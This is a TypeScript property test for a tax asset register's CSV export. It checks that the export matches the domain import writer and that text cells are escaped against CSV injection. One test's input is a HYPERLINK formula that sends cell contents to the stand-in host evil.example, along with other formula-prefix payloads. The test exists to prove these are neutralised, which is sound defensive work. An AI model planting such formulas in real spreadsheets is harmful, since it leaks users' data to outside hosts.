/**
 * The import layout's lines are the domain writer's (export-csv.ts `importRowCells`) for the same row staged
 * (docs/product/import-export.md "Export in the import layout"): the export writes its cells straight from the row
 * for speed, and this holds the two equal on random rows.
 */

import type { AssetFieldKind } from '@taxdep/domain/assets';
import { IMPORT_CONSTRUCTION_USES, IMPORT_HEADINGS, importRowCells } from '@taxdep/domain/import';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { kindOfColumn, RECORD_COLUMNS } from '../kernel/asset-columns';
import { csvLine } from './cells';
import { IMPORT_LAYOUT, stagedRowOfRegister } from './register-layouts';
import type { ExportRow } from './repository';

const text = fc.option(
  fc.string({ unit: fc.constantFrom('a', ' ', ',', '"', '\n', '=', '-', '+', '@', '\t', 'é') }),
  {
    nil: null,
  },
);
const date = fc
  .option(
    fc.date({
      min: new Date('0001-01-01T00:00:00Z'),
      max: new Date('9999-12-31T00:00:00Z'),
      noInvalidDate: true,
    }),
    { nil: null },
  )
  .map((d) => (d === null ? null : d.toISOString().slice(0, 10)));
const cents = fc.option(fc.bigInt({ min: -(10n ** 15n), max: 10n ** 15n }), { nil: null });
const rate = fc.option(
  fc.integer({ min: -10_000, max: 100_000_000 }).map((n) => (n / 10_000).toFixed(4)),
  { nil: null },
);

const id = fc.option(fc.integer({ min: 1, max: 2_147_483_647 }), { nil: null });
/** A random value of each kind of the record's fields (asset-record.ts), so a new field is drawn too. */
const OF_KIND: Record<AssetFieldKind, fc.Arbitrary<unknown>> = {
  taxCode: id,
  code: id,
  text,
  date,
  cents,
  rate,
  flag: fc.option(fc.boolean(), { nil: null }),
  constructionUse: fc.option(fc.constantFrom(...IMPORT_CONSTRUCTION_USES), { nil: null }),
};
const recordFields = Object.fromEntries(
  RECORD_COLUMNS.map((column) => [column, OF_KIND[kindOfColumn(column) as AssetFieldKind]]),
);

const row = fc.record({
  ...recordFields,
  id: fc.integer({ min: 1, max: 2_147_483_647 }),
  tax_code: text,
  category_code: text,
  method_code: text,
  demo_date: date,
  demo_rate: rate,
  demolition_count: fc.integer({ min: 0, max: 5 }),
  abandonment_label: text,
  abandonment_date: date,
}) as unknown as fc.Arbitrary<ExportRow>;

describe('the import layout', () => {
  it('writes each row as the domain’s import writer writes it staged', () => {
    fc.assert(
      fc.property(row, (r) => {
        expect(IMPORT_LAYOUT.line(r)).toBe(csvLine(importRowCells(stagedRowOfRegister(r))));
      }),
      { numRuns: 500 },
    );
  });

  it('writes the set and label names spreadsheet-safe, as every text (OWASP "CSV injection"; issue 23 item 9)', () => {
    const sample = fc.sample(row, { numRuns: 1, seed: 3 })[0]!;
    const cells = (r: typeof sample) => importRowCells(stagedRowOfRegister(r));
    const at = (heading: (typeof IMPORT_HEADINGS)[number]) => IMPORT_HEADINGS.indexOf(heading);
    const written = cells({
      ...sample,
      set_name: '=HYPERLINK("http://evil.example/?"&A1,"Dining set")',
      abandonment_label: '@SUM(1+1)',
      fund_code: '+61 2 9999',
      property_code: '-P1',
    });
    expect(written[at('Set Name')]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"Dining set")');
    expect(written[at('Abandonment Label')]).toBe("'@SUM(1+1)");
    expect(written[at('Fund Code')]).toBe("'+61 2 9999");
    expect(written[at('Property Code')]).toBe("'-P1");
    expect(IMPORT_LAYOUT.line({ ...sample, set_name: '=1+1' })).toContain(",'=1+1,");
  });
});
